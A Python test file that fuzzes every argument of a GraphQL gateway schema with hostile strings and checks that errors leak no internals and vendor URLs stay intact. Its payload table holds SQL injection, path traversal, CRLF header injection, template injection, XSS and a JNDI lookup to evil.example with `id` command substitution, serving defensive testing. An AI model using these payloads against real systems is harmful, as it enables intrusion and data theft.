"""Hostile strings at every argument of the schema: nothing breaks, nothing is told, all URLs lead home."""

import json
import re
from base64 import urlsafe_b64encode
from collections import deque
from collections.abc import AsyncIterator, Iterator, Mapping, MutableMapping, Sequence
from typing import Any, NamedTuple, cast
from urllib.parse import parse_qsl
from uuid import uuid4

import pytest
from graphql import (
    GraphQLField,
    GraphQLInputObjectType,
    GraphQLInputType,
    GraphQLObjectType,
    GraphQLOutputType,
    get_named_type,
    is_leaf_type,
    is_list_type,
    is_non_null_type,
    is_required_argument,
)
from graphql.type import get_nullable_type
from hypothesis import strategies as st

from adapters.sandbox import Asked
from gateway.graph import build_graph
from gateway.settings import Settings, UseAuth
from resolvers.ids import to_id
from tests.gateways import Gateway, gateway_on
from tests.leaks import MARK
from tests.properties import holds_for_any

SCHEMA = build_graph().core
AWA = to_id("Customer", "everyprint:2413659892012345")
AGENT, GROUP, OF_POSTER = to_id("Agent", 2764), to_id("Group", "everyprint:1"), to_id("Group", "poster:4")
TEMPLATE = to_id("Template", "997dd550-c8d8-4bf7-ad98-a5ac4844a1ed")
BONUS = {"type": "BONUS", "percent": "5"}


def bases() -> Mapping[str, dict[str, Any]]:
    """What has to be said beside the hostile; where nothing stands here, only one thing is said at all."""
    new = uuid4().hex
    template = {"id": TEMPLATE, "parameters": ["a", "b", "c"]}
    return {
        "AdjustBalanceInput": {"customerId": AWA, "amount": "1", "reason": "x", "idempotencyKey": new},
        "BroadcastInput": {"audience": {"customerIds": [AWA]}, "content": {"text": "Hola"}},
        "CreateCustomerInput": {"firstName": "Eve", "lastName": "Kim", "email": f"{new}@example.com"},
        "CreateGroupInput": {"source": "POSTER", "name": new, "loyalty": BONUS},
        "LoyaltyInput": BONUS,
        "MessengerInput": {"text": "Hola"},
        "PushInput": {"text": "Hola", "title": "Hola"},
        "SaveCustomerInput": {"messengerId": new, "lastName": "Kim", "gender": "MALE"},
        "SendMessageInput": {"to": {"customerId": AWA}, "content": {"template": template}},
        "SmsInput": {"text": "Hola"},
        "TagInput": {"name": "VIP", "add": True},
        "TemplateInput": template,
        "UpdateCustomerInput": {"lastName": "Diop"},
        "UpdateGroupInput": {"name": new},
        "ViberInput": {"text": "Hola"},
        "WhatsAppInput": {"text": "Hola"},
    }


ARGUMENTS: Mapping[str, Any] = {
    "Query.customer.by": {"id": AWA},
    "Query.agent.id": AGENT,
    "Query.group.id": GROUP,
    "Query.template.id": TEMPLATE,
    "Mutation.updateCustomer.id": AWA,
    "Mutation.linkCustomers.ids": [AWA],
    "Mutation.unlinkCustomer.id": AWA,
    "Mutation.unlinkCustomer.source": "POSTER",
    "Mutation.updateGroup.id": OF_POSTER,
    "Mutation.removeGroup.id": GROUP,
    "Mutation.removeGroup.confirmCustomerCount": 1_000_000,
    "Mutation.addToGroup.groupId": GROUP,
    "Mutation.addToGroup.customerIds": [AWA],
    "Mutation.removeFromGroup.groupId": GROUP,
    "Mutation.removeFromGroup.customerIds": [AWA],
    "Mutation.suppress.address": "+221770009199",
    "Mutation.suppress.reason": "x",
    "Mutation.unsuppress.address": "+221770009199",
}
"""The same of arguments; of a broadcast there is an id only once the test has started one."""

TABLE = (
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE customers; # {MARK}",
    f'" OR ""=" {MARK}',
    f"\\'; /* {MARK} */ \\",
    f"%_{MARK}%_[a]",
    f"../../{MARK}",
    f"..\\..\\{MARK}",
    f"%2e%2e%2f{MARK}%00",
    f"{MARK}?x=1&y=2#z;a=b",
    f"//evil.example/{MARK}",
    f"http://evil.example/{MARK}",
    f"{MARK}\r\nX-Injected: 1\r\n\r\nGET /",
    f"{MARK}\x00\x1b[31m\x7f",
    f"\ud800{MARK}\udfff",
    f"\u202e{MARK}\u200b\ufeff\u2066",
    "😀🏴‍☠️" + MARK,
    MARK * 200,
    "ﷺ" * 5_000,
    f"{{x.__class__}}{MARK}{{firstName.__class__.__mro__|x}}",
    f"{{{{7*7}}}}${{7*7}}#{{7*7}}%{{7*7}}%s%n{MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}`id`$(id)|id",
    f'{{"$ne": "{MARK}", "__proto__": {{}}}}',
    f"<script>{MARK}</script>&lt;",
    "",
    " ",
    "0",
    "-1",
    "9" * 40,
    "9223372036854775808",
    "NaN",
    "1e400",
    "null",
    "true",
    "2026-13-45T99:99:99Z",
    "+221770009101' OR 1=1",
    to_id("Customer", "everyprint:' OR '1'='1"),
    to_id("Customer", "mercately:../agents?x=1#"),
    to_id("Customer", "mercately:4880pbiig3874/../../agents"),
    to_id("Customer", "poster:99999999999999999999"),
    to_id("Customer", "poster:1&x=1"),
    to_id("Customer", "nobody:1"),
    to_id("Customer", ":"),
    to_id("Group", "poster:9223372036854775807"),
    to_id("Group", "everyprint:9223372036854775807"),
    to_id("Group", "everyprint:٣"),
    to_id("Agent", "9999999999999999999"),
    to_id("Template", "../x?y"),
    to_id("Message", "9" * 30),
    to_id("Broadcast", "\x00"),
    to_id("Conversation", "MESSENGER:../x"),
    to_id("__Schema", "1"),
    urlsafe_b64encode(b"\xff\xfe:\x80").decode(),
    urlsafe_b64encode(b"Customer").decode(),
)
MADE_UP = st.lists(
    st.sampled_from(("'", '"', "\\", "%", "_", "/", "..", "?", "#", "&", ";", "\r\n", "\x00", "\ud83d", MARK))
    | st.text(max_size=3),
    max_size=8,
).map("".join)


def hostile(number: int) -> st.SearchStrategy[str]:
    """The simplest that Hypothesis knows, with which it begins, is another one for every number."""
    first = number % len(TABLE)
    return st.sampled_from(TABLE[first:] + TABLE[:first]) | MADE_UP


class Everywhere(dict["Place", str]):
    def __repr__(self) -> str:
        """Hypothesis prints what was drawn."""
        return "a string for every place"


class Step(NamedTuple):
    """A field on the way."""

    parent: GraphQLObjectType
    name: str

    @property
    def coordinate(self) -> str:
        return f"{self.parent.name}.{self.name}"

    @property
    def field(self) -> GraphQLField:
        field: GraphQLField = self.parent.fields[self.name]
        return field

    @property
    def needed(self) -> list[str]:
        return [name for name, argument in self.field.args.items() if is_required_argument(argument)]


class Place(NamedTuple):
    """An argument, or a field of one, and the way to it."""

    way: tuple[Step, ...]
    argument: str
    within: tuple[str, ...]

    @property
    def path(self) -> str:
        """As errors have it."""
        return ".".join((self.argument, *self.within))

    @property
    def coordinate(self) -> str:
        return f"{self.way[-1].coordinate}.{self.path}"

    @property
    def operation(self) -> str:
        return self.way[0].parent.name.lower()

    def query(self) -> str:
        declared, selection = [], _selection(self.way[-1].field.type)
        for step in reversed(self.way):
            names = step.needed if step is not self.way[-1] else {*step.needed, self.argument}
            declared += [f"${step.name}_{name}: {step.field.args[name].type}" for name in names]
            arguments = ", ".join(f"{name}: ${step.name}_{name}" for name in names)
            selection = f"{{ {step.name}{f'({arguments})' if names else ''} {selection} }}"
        return f"{self.operation} ({', '.join(declared)}) {selection}"

    def variables(self, text: str, broadcast: str) -> dict[str, Any]:
        beside, said = bases(), dict[str, Any]()
        for step in self.way:
            for name in step.needed:
                noun = get_named_type(step.field.args[name].type).name
                usual = broadcast if step.coordinate == "Query.broadcast" else beside.get(noun)
                said[f"{step.name}_{name}"] = ARGUMENTS.get(f"{step.coordinate}.{name}", usual)
        last = self.way[-1]
        name, type = f"{last.name}_{self.argument}", last.field.args[self.argument].type
        return {**said, name: _with(text, type, self.within, said.get(name), beside)}


def _selection(type: GraphQLOutputType, deep: int = 2) -> str:
    """What can be asked of it without arguments."""
    named = get_named_type(type)
    if is_leaf_type(named):
        return ""
    fields = named.fields if isinstance(named, GraphQLObjectType) and deep else {}
    asked = [
        f"{name} {_selection(field.type, deep - 1)}"
        for name, field in fields.items()
        if not field.args
        and (is_leaf_type(get_named_type(field.type)) or name in ("edges", "node", "sample", "recipient"))
    ]
    return f"{{ __typename {' '.join(asked)} }}"


def _with(
    text: str, type: GraphQLInputType, within: Sequence[str], usual: Any, beside: Mapping[str, dict[str, Any]]
) -> Any:
    if is_non_null_type(type):
        return _with(text, type.of_type, within, usual, beside)
    if is_list_type(type):
        return [*(usual or ()), _with(text, type.of_type, within, None, beside)]
    if not within:
        return text
    (name, *rest), base = within, beside.get(str(type), {})
    return {**base, name: _with(text, cast("Any", type).fields[name].type, rest, base.get(name), beside)}


def places() -> Iterator[Place]:
    """Every one of the schema, by the shortest way that leads through no list."""
    roots = (SCHEMA.query_type, SCHEMA.mutation_type, SCHEMA.subscription_type)
    ways = deque[tuple[Step, ...]]((Step(root, name),) for root in roots if root for name in root.fields)
    seen = set[str]()
    while ways:
        way = ways.popleft()
        field = way[-1].field
        for name, argument in field.args.items():
            for within in _leaves(argument.type):
                yield Place(way, name, within)
        to = get_named_type(field.type)
        if is_list_type(get_nullable_type(field.type)) or way[0].parent is not SCHEMA.query_type:
            continue
        if isinstance(to, GraphQLObjectType) and to.name not in seen:
            seen.add(to.name)
            ways.extend((*way, Step(to, name)) for name in to.fields)


def _leaves(type: GraphQLInputType) -> Iterator[tuple[str, ...]]:
    named = get_named_type(type)
    if not isinstance(named, GraphQLInputObjectType):
        yield ()
        return
    for name, field in named.fields.items():
        yield from ((name, *rest) for rest in _leaves(field.type))


@pytest.fixture
async def gateway(settings_of_a_town: Settings) -> AsyncIterator[Gateway]:
    """On a database of each kind."""
    async with gateway_on(settings_of_a_town.model_copy(update={"auth": UseAuth.OPEN})) as opened:
        yield opened


CODES = {"BAD_USER_INPUT", "NOT_FOUND", "CONFLICT"}
TELLING = (
    *("sqlite", "sqlalchemy", "pymysql", "aiomysql", "mariadb", "syntax to use", "no such column"),
    *("traceback", "<class '", "object at 0x", "exception", ".py", "codec", "surrogate"),
)
"""What databases and Python say of themselves, and none of the hostile strings."""
IN_ERRORS = {"Query.nodes.ids": "id"}
"""What errors name otherwise than the schema does; of these, their path says which of the ids it is."""
EXACT = {
    "Mutation.sendMessage.input.content.messenger.text",
    "Query.customer.by.mercatelyId",
    "Query.customer.by.posterId",
    "Query.node.id",
}
"""What becomes part of a URL."""
NAMES = {
    *("page", "results_per_page", "unassigned"),
    *(
        "format",
        "token",
        "client_id",
        "client_name",
        "group_id",
        "num",
        "offset",
        "order_by",
        "sort",
        "phone",
    ),
    *("client_groups_name", "client_groups_discount", "loyalty_type", "client_groups_id"),
    *("client_sex", "client_groups_id_client", "email", "city", "address", "comment", "birthday_bonus"),
    *("chatfuel_token", "chatfuel_message_tag", "chatfuel_block_name", "text"),
}
"""Of the parameters that our vendors document, in queries and in forms."""


def test_every_argument_of_the_schema_is_a_place() -> None:
    in_schema = {
        f"{type.name}.{name}.{argument}"
        for type in SCHEMA.type_map.values()
        if isinstance(type, GraphQLObjectType) and not type.name.startswith("__")
        for name, field in type.fields.items()
        for argument in field.args
    }

    assert {".".join(place.coordinate.split(".")[:3]) for place in places()} == in_schema


async def test_a_hostile_string_breaks_nothing_at_any_argument(
    gateway: Gateway, log_lines: list[MutableMapping[str, Any]], caplog: pytest.LogCaptureFixture
) -> None:
    start = "mutation ($input: BroadcastInput!) { broadcast(input: $input) { id } }"
    broadcast = (await gateway.data(start, input=bases()["BroadcastInput"]))["broadcast"]["id"]
    wrong: list[object] = []

    async def holds(texts: Everywhere) -> None:
        for place, text in texts.items():
            wrong.extend(await _faults(gateway, place, text, broadcast))

    everywhere = {place: hostile(number) for number, place in enumerate(places())}
    drawn = st.fixed_dictionaries(everywhere).map(Everywhere)
    await holds_for_any(drawn, holds, examples=2)

    assert wrong == []
    assert not [line for line in log_lines if line["log_level"] != "info"]
    assert not [word for word in (MARK, *TELLING) if word in f"{log_lines} {caplog.text}".lower()]
    assert _odd_requests(gateway) == []


async def test_what_becomes_part_of_a_url_is_one_part_of_it(peopled: Gateway) -> None:
    exact = [place for place in places() if place.coordinate in EXACT]
    wrong = [each for place in exact for text in TABLE for each in await _faults(peopled, place, text, "")]

    assert len(exact) == len(EXACT)
    assert wrong == []
    assert _odd_requests(peopled) == []
    sent = {asked.query["text"] for asked in peopled.chatfuel.asked}
    taken = {text for text in TABLE if text.strip() and text.isprintable() and len(text) < 2_000}
    assert taken <= sent


async def _faults(gateway: Gateway, place: Place, text: str, broadcast: str) -> list[object]:
    """What is wrong with the answer, and with which."""
    body = {"query": place.query(), "variables": place.variables(text, broadcast)}
    headers = {"Accept": "text/event-stream" if place.operation == "subscription" else "application/json"}
    async with gateway.session.post(f"{gateway.url}/graphql", json=body, headers=headers) as response:
        said = await response.text()
    errors = json.loads(said.partition("data: ")[2].partition("\r\n")[0] or said).get("errors", ())
    codes = {error["extensions"]["code"] for error in errors} - CODES
    named = {
        re.sub("[.][0-9]+", "", name) for error in errors for name in error["extensions"].get("fields", ())
    }
    within = {place.path, place.path.rpartition(".")[0], IN_ERRORS.get(place.coordinate)}
    unreached = named if not named & within else ()  # something else was wrong, and it was not even looked at
    told = {word for word in TELLING if word in said.lower()}
    status = {response.status} - {200, 294, 400, 422}
    return [(place.coordinate, text, each, said) for each in (codes, unreached, told, status) if each]


def _odd_requests(gateway: Gateway) -> list[Asked]:
    """What a vendor was asked by a URL that none of its documents shows."""
    sandboxes = (gateway.mercately, gateway.poster, gateway.hyber, gateway.chatfuel)
    return [asked for sandbox in sandboxes for asked in sandbox.asked if _is_odd(asked)]


def _is_odd(asked: Asked) -> bool:
    path, _, query = asked.target.partition("?")
    parts, known = path.split("/"), asked.route.split("/")
    names = {name for name, _ in parse_qsl(query, keep_blank_values=True)}
    form = asked.body if asked.route.startswith("/api/clients.") else {}
    return (
        len(parts) != len(known)
        or any(part != place and not place.startswith("{") for part, place in zip(parts, known, strict=True))
        or any(
            not re.fullmatch(r"([A-Za-z0-9_~-]|%[0-9A-F]{2})+", part)
            for part in parts[1:]
            if part not in known
        )
        or not re.fullmatch(r"[!-~]*", query)
        or "#" in query
        or not names | {*(form or ())} <= NAMES
    )
